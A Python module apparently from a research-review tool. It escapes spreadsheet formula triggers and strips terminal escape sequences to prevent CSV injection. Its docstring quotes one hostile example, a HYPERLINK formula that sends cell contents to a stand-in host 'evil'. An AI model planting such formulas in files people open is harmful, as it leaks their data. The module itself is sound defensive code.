"""Text that reaches a spreadsheet or a terminal: one place for making it safe.

Every CSV and workbook this tool writes is meant to be opened in Excel or LibreOffice, and its text
comes from third parties (titles and abstracts of studies, ids in a reference export, notes typed
into the review page). A cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` would run
as a formula when the file is opened. Following the OWASP guidance on CSV injection:

- ``csv_cell(value)``: a text cell that begins with ``=``, ``+``, ``-``, ``@`` (also after leading
  spaces), a tab, a carriage return or a line feed (or the full-width ``＝＋－＠``) is written with a
  leading apostrophe, which spreadsheets show as text and never run. Numbers (``-0.5``) are left as
  they are. A cell that already begins with an apostrophe gets one more, so that
- ``read_cell(text)`` gives back exactly the original value when the tool reads its own files
  (``labels.csv``, the log, the review queue): ``read_cell(csv_cell(v)) == v`` for every text
  without a NUL character (dropped: no spreadsheet reads it).
- ``xlsx_value(value)``: for a workbook cell, the text itself (stored as text, never as a formula)
  and whether to give it Excel's quote prefix, so editing the cell later does not turn it into one;
  characters a workbook cannot hold (control characters) are dropped.
- ``terminal_text(value)``: text for the terminal with escape sequences and control characters
  (which could move the cursor, rewrite the screen or retitle the window) removed.

All of them turn a lone surrogate (which no UTF-8 file can hold) into U+FFFD.
"""
from __future__ import annotations

import re

from .encoding import fix_surrogates

# what makes a spreadsheet read a cell as a formula (or a DDE call)
TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")
# characters XML 1.0 (so an .xlsx cell) cannot hold
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
# ANSI/VT escape sequences (CSI ... final byte, OSC ... BEL/ST, two-byte ESC x), then any other
# C0/C1 control character but tab and line feed
_ESCAPES = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|\x1b[@-_]|\x9b[0-?]*[ -/]*[@-~]")
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _risky(text: str) -> bool:
    """Whether ``text`` gets (or, read back, carries) the protective apostrophe."""
    if not text:
        return False
    if text[0] == "'":
        return True
    first = text.lstrip(" ")[:1]
    return bool(first) and first in TRIGGERS and not _NUMBER.fullmatch(text.strip())


def csv_cell(value) -> str:
    """``value`` (already formatted as text) as a CSV cell that no spreadsheet runs as a formula."""
    text = fix_surrogates("" if value is None else str(value))
    if "\x00" in text:  # no spreadsheet (nor this tool's readers) takes a NUL in a text file
        text = text.replace("\x00", "")
    return "'" + text if _risky(text) else text


def read_cell(text):
    """The value ``csv_cell`` was given, from the cell it wrote (other values pass through)."""
    if isinstance(text, str) and len(text) > 1 and text[0] == "'" and _risky(text[1:]):
        return text[1:]
    return text


def xlsx_value(value):
    """``(value, quote_prefix)`` for a workbook cell: text without the characters a workbook cannot
    hold, and True where Excel should keep it as text even when the cell is edited later."""
    if not isinstance(value, str):
        return value, False
    text = NOT_XML.sub("", fix_surrogates(value))
    return text, _risky(text) and text[0] != "'"


def xlsx_cell(ws, value):
    """A ``WriteOnlyCell`` of the write-only sheet ``ws`` holding ``value`` safely."""
    from openpyxl.cell import WriteOnlyCell

    value, prefix = xlsx_value(value)
    cell = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # text, never a formula, whatever it starts with
        if prefix:
            cell.quotePrefix = True
    return cell


def set_xlsx_cell(cell, value) -> None:
    """Put ``value`` into an existing openpyxl cell safely (text stays text)."""
    value, prefix = xlsx_value(value)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if prefix:
            cell.quotePrefix = True


def terminal_text(value) -> str:
    """``value`` fit to print on a terminal: no escape sequences, no control characters."""
    text = fix_surrogates("" if value is None else str(value))
    if "\x1b" in text or "\x9b" in text:
        text = _ESCAPES.sub("", text)
    return _CONTROLS.sub("", text)
